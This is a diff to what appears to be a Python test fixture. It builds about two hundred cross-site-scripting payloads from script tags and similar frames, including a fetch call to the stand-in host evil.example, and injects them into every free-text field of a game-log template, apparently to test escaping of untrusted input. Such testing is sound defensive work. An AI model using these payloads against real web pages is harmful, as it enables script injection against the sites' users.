@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+from collections.abc import Sequence
+
+import msgspec
+
 _SCRIPTS = ("alert(1)", "document.title='hacked'", "fetch('http://evil.example/')")
 _FRAMES = (
     "<script>{0}</script>",
@@ -74,3 +78,27 @@ _FRAMES = (
 )
 # Two hundred in all.
 PAYLOADS = tuple(frame.format(script) for frame in _FRAMES for script in _SCRIPTS)
+
+
+LOG = """game: tailwinds
+pack: tailwinds-reconstructed-1
+players: green={0}/sailor, orange=Ben/crew
+event: {0}
+date: 2026-11-18
+---
+green: place 3
+record: note {0} who={0}
+green: move aft 3
+claim: winner {0}
+{1}
+record: amend 1 {0} who={0} why={0}
+"""
+
+
+def quoted(payload: str) -> str:
+    return msgspec.json.encode(payload).decode()
+
+
+def hostile_log(payloads: Sequence[str] = PAYLOADS) -> bytes:
+    """Every payload in every place where a log may say what it likes."""
+    return LOG.format(quoted(payloads[3]), "\n".join(payloads)).encode()
